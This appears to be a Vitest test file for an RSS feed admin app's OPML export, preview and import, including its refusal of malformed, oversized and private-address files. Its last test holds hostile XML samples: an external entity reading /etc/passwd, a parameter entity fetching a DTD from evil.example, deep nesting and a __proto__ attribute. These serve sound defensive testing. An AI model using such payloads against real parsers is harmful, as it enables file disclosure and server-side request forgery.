// OPML on the real app (session, store, FeedService, loopback feeds): export, preview and import, with their
// refusals (malformed, too many, too large, private addresses, entities and deep nesting).
import { beforeAll, describe, expect, it } from 'vitest';
import type { FeedServer } from '../../../tests/support/feeds-server.ts';
import type { TestApi } from '../../../tests/support/api.ts';
import { rssAdminFixture } from '../../../tests/support/rss-admin.ts';

const { get, add, upload, sources } = rssAdminFixture();
let api: TestApi;
let server: FeedServer;
let cookie: string;
let categoryId: number;
beforeAll(async () => {
  ({ api, server, cookie, categoryId } = get());
  // The one source listed before these calls.
  await add('Other', '/atom');
});

describe('OPML', () => {
  const opml = (outlines: string) =>
    `<?xml version="1.0"?><opml version="2.0"><head/><body>${outlines}</body></opml>`;
  const newFeeds = opml(
    `<outline text="Podcasts"><outline text="Pod" xmlUrl="${'https://pod.example/rss'}"/></outline>` +
      `<outline text="assistive technology"><outline text="Known" xmlUrl="https://known.example/rss"/></outline>`,
  );

  it('exports OPML 2.0 that previews and re-imports as nothing new', async () => {
    const res = await api.send('/api/rss/opml', { cookie });
    const text = await res.text();

    const preview = await (await upload('preview', text)).json();
    const imported = await (await upload('import', text)).json();

    expect(res.headers.get('content-type')).toBe('text/x-opml; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="a11y-tech-news-feeds.opml"',
    );
    expect(text).toContain('<outline text="Assistive Technology"');
    expect(preview).toEqual({
      feeds: [
        {
          title: 'Other',
          url: `${server.url}/atom`,
          category: 'Assistive Technology',
          status: 'existing',
          message: `This feed is already added as 'Other' (${server.url}/atom)`,
        },
      ],
      unknownCategories: [],
    });
    expect(imported).toEqual({ added: 0, existing: 1, invalid: 0, sources: [] });
  });

  it('imports new feeds into mapped categories, and nothing when the map misses one', async () => {
    const missing = await upload('import', newFeeds, { categoryMap: '{}' });
    const preview = await (await upload('preview', newFeeds)).json();
    const ok = await upload('import', newFeeds, {
      categoryMap: JSON.stringify({ Podcasts: categoryId }),
    });

    expect(missing.status).toBe(400);
    expect(await missing.json()).toEqual({ error: 'Choose a category for "Podcasts"' });
    expect(preview.unknownCategories).toEqual(['Podcasts']);
    expect(await ok.json()).toMatchObject({ added: 2, existing: 0, invalid: 0 });
    expect((await sources()).map((s) => [s.name, s.categoryId])).toEqual([
      ['Other', categoryId],
      ['Pod', categoryId],
      ['Known', categoryId],
    ]);
  });

  it('previews private and local addresses as refused, with the reason, and imports none of them', async () => {
    const local = opml(
      ['http://10.0.0.1/rss', 'http://[::1]/rss', 'http://foo.localhost/rss', 'http://[fc00::1]/']
        .map((url, i) => `<outline text="Local ${i}" xmlUrl="${url}"/>`)
        .join(''),
    );
    const before = await sources();

    const preview = await (await upload('preview', local)).json();
    const imported = await (await upload('import', local)).json();

    expect(preview.feeds).toHaveLength(4);
    for (const feed of preview.feeds)
      expect(feed).toMatchObject({
        status: 'invalid',
        message: 'This address points to a private or local network, which feeds may not use.',
      });
    expect(imported).toEqual({ added: 0, existing: 0, invalid: 4, sources: [] });
    expect(await sources()).toEqual(before);
  });

  it('refuses a malformed file, more than 500 feeds and more than 1 MB, adding nothing', async () => {
    const many = opml(
      Array.from({ length: 501 }, (_, i) => `<outline xmlUrl="https://m.example/${i}"/>`).join(''),
    );
    // Just over 1 MB reaches the route; far over it is stopped by the app's body limit: same answer.
    const huge = opml(`<outline text="${'x'.repeat(1024 * 1024)}"/>`);
    const huger = opml(`<outline text="${'x'.repeat(3 * 1024 * 1024)}"/>`);
    // Above the 256 KB of other writes, within 1 MB: accepted.
    const big = opml(`<outline text="${'x'.repeat(600 * 1024)}"/>`);

    const malformed = await upload('import', '<opml><body><outline></body>');
    const tooMany = await upload('import', many);
    const tooLarge = await upload('preview', huge);
    const farTooLarge = await upload('import', huger);
    const bigButFine = await upload('preview', big);
    const noFile = await api.send('/api/rss/opml/preview', {
      method: 'POST',
      body: new FormData(),
      cookie,
    });

    expect(malformed.status).toBe(400);
    expect((await malformed.json()).error).toMatch(/^The file is not valid OPML: /);
    expect(tooMany.status).toBe(400);
    expect(await tooMany.json()).toEqual({ error: 'The file has more than 500 feeds' });
    expect(tooLarge.status).toBe(413);
    expect(await tooLarge.json()).toEqual({ error: 'The file is larger than 1 MB' });
    expect(farTooLarge.status).toBe(413);
    expect(await farTooLarge.json()).toEqual({ error: 'The file is larger than 1 MB' });
    expect(await bigButFine.json()).toEqual({ feeds: [], unknownCategories: [] });
    expect(noFile.status).toBe(400);
    expect(await sources()).toHaveLength(3);
  });

  it('answers 400 to entities, deep nesting and __proto__ names on preview and import', async () => {
    const doc = (body: string, doctype = '') =>
      `<?xml version="1.0"?>${doctype}<opml version="2.0"><head/><body>${body}</body></opml>`;
    const one = '<outline text="a" xmlUrl="https://h.example/f"/>';
    const hostile = [
      doc(one.replace('"a"', '"&x;"'), '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      doc(one, '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
      doc('<outline text="g">'.repeat(20_000) + '</outline>'.repeat(20_000)),
      doc(one.replace('text=', '__proto__="x" text=')),
    ];
    for (const path of ['preview', 'import'])
      for (const file of hostile) {
        const res = await upload(path, file);
        expect(res.status, `${path} ${file.slice(0, 80)}`).toBe(400);
        expect((await res.json()).error).toMatch(/^The file is not valid OPML: /);
      }
    expect(await sources()).toHaveLength(3);
  });
});
